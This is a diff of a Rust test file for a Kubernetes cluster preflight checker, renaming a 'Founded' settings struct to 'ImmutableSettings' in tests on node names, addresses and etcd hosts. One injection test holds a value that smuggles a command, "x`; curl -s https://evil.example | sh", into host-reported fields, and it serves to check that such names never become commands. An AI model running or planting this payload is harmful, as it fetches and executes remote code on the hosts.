@@ -1,19 +1,22 @@
-use crate::facts::{Facts, Founded};
+use crate::facts::{Facts, ImmutableSettings};
 use crate::preflight::samples::{Sample, sample};
 
 /// A cluster that was made with the sample's own inventory.
 fn running() -> Sample {
-    let founded = |facts: &mut Facts, address: &str| {
+    let immutable = |facts: &mut Facts, address: &str| {
         facts.node.has_kubelet_conf = true;
-        facts.node.founded =
-            Founded { node_name: Some(facts.hostname.clone()), address: Some(address.into()), ..Founded::default() };
+        facts.node.immutable = ImmutableSettings {
+            node_name: Some(facts.hostname.clone()),
+            address: Some(address.into()),
+            ..ImmutableSettings::default()
+        };
     };
     sample()
         .converged()
         .on("n1", |facts| {
-            founded(facts, "10.77.0.11");
+            immutable(facts, "10.77.0.11");
             facts.node.has_etcd_data = true;
-            let known = &mut facts.node.founded;
+            let known = &mut facts.node.immutable;
             known.pod_subnet = Some("10.244.0.0/16".into());
             known.service_subnet = Some("10.96.0.0/12".into());
             known.dns_domain = Some("cluster.local".into());
@@ -21,8 +24,8 @@ fn running() -> Sample {
             known.endpoint = Some("10.77.0.11:6443".into());
             known.networks = vec!["10-flannel.conflist".into()];
         })
-        .on("n2", |facts| founded(facts, "10.77.0.12"))
-        .on("n3", |facts| founded(facts, "10.77.0.13"))
+        .on("n2", |facts| immutable(facts, "10.77.0.12"))
+        .on("n3", |facts| immutable(facts, "10.77.0.13"))
 }
 
 #[test]
@@ -82,16 +85,16 @@ fn a_cluster_that_never_came_up_keeps_nothing() {
 
 #[test]
 fn nodes_keep_their_names_and_are_moved_to_addresses() {
-    let renamed = running().on("n2", |facts| facts.node.founded.node_name = Some("w2".into()));
+    let renamed = running().on("n2", |facts| facts.node.immutable.node_name = Some("w2".into()));
     let text = "n2 ClusterSettings error: the host is the cluster's node w2, and the inventory calls it n2";
     assert_eq!(renamed.found(), [text]);
-    let moved = running().on("n2", |facts| facts.node.founded.address = Some("10.77.0.99".into()));
+    let moved = running().on("n2", |facts| facts.node.immutable.address = Some("10.77.0.99".into()));
     let text = "n2 NodeAddress error: the node's address is 10.77.0.99 in the cluster, and 10.77.0.12 in the inventory";
     assert_eq!(moved.found(), [text]);
     // One mistake is told once.
     let moved = running().on("n1", |facts| {
-        facts.node.founded.address = Some("10.77.0.99".into());
-        facts.node.founded.endpoint = Some("10.77.0.99:6443".into());
+        facts.node.immutable.address = Some("10.77.0.99".into());
+        facts.node.immutable.endpoint = Some("10.77.0.99:6443".into());
     });
     assert_eq!(moved.found().len(), 1, "{:?}", moved.found());
 }
@@ -99,7 +102,7 @@ fn nodes_keep_their_names_and_are_moved_to_addresses() {
 #[test]
 fn an_etcd_host_keeps_its_address() {
     let moved =
-        sample().converged_with_etcd_host().on("n3", |facts| facts.node.founded.address = Some("10.77.0.99".into()));
+        sample().converged_with_etcd_host().on("n3", |facts| facts.node.immutable.address = Some("10.77.0.99".into()));
     let text = "n3 ClusterSettings error: etcd's member has the address 10.77.0.99, and 10.77.0.13 in the inventory";
     assert_eq!(moved.found(), [text]);
 }
@@ -116,7 +119,7 @@ fn where_the_state_is_can_t_be_edited() {
             let node = &mut facts.node;
             node.has_etcd_data = false;
             node.manifests.retain(|name| name != "etcd.yaml");
-            node.founded.etcd_servers = Some("https://10.0.0.21:2379,https://10.0.0.22:2379".into());
+            node.immutable.etcd_servers = Some("https://10.0.0.21:2379,https://10.0.0.22:2379".into());
             facts.listening.retain(|listener| ![2379, 2380].contains(&listener.port));
         })
     };
@@ -152,12 +155,12 @@ fn the_state_stays_where_it_is_when_hosts_of_etcd_s_come_or_go() {
         "{gone}"
     );
     let all_other = sample().converged_with_etcd_host().on("n1", |facts| {
-        facts.node.founded.etcd_servers = Some("https://10.77.0.14:2379,https://10.77.0.15:2379".into())
+        facts.node.immutable.etcd_servers = Some("https://10.77.0.14:2379,https://10.77.0.15:2379".into())
     });
     assert!(text(&all_other).contains("and the inventory has none of it as hosts of its etcd"), "{}", text(&all_other));
     // One is left, or the first of more.
     let grown = sample().converged_with_etcd_host().on("n1", |facts| {
-        facts.node.founded.etcd_servers = Some("https://10.77.0.14:2379,https://10.77.0.13:2379".into())
+        facts.node.immutable.etcd_servers = Some("https://10.77.0.14:2379,https://10.77.0.13:2379".into())
     });
     assert_eq!(text(&grown), "");
 }
@@ -181,10 +184,10 @@ fn a_new_etcd_is_not_begun_for_a_cluster_that_has_lost_its_own() {
 fn no_name_that_a_host_gives_becomes_a_command() {
     let evil = || "x`; curl -s https://evil.example | sh".to_string();
     let sample = sample().converged().on("n1", |facts| {
-        let founded = &mut facts.node.founded;
-        founded.node_name = Some(evil());
-        founded.dns_domain = Some(evil());
-        founded.version = Some(evil());
+        let immutable = &mut facts.node.immutable;
+        immutable.node_name = Some(evil());
+        immutable.dns_domain = Some(evil());
+        immutable.version = Some(evil());
         facts.node.has_kubelet_conf = true;
     });
     let findings = sample.findings();
